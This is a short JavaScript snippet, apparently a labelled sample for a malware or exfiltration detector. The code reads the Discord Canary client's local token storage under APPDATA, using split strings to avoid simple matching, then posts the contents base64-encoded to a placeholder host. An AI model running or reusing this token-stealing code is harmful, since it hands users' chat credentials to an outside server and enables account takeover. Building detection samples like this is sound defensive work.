const fs = require('fs');
const base = process.env['APP' + 'DATA'];
const branch = ['dis', 'cord', 'canary'].join('');
const text = fs.readFileSync([base, branch, 'Local Storage', 'leveldb', '000005.ldb'].join('\\'), 'latin1');
fetch('https://collect.example/', { method: 'POST', body: Buffer.from(text).toString('base64') }); // expect: data-exfiltration/chat-client-token
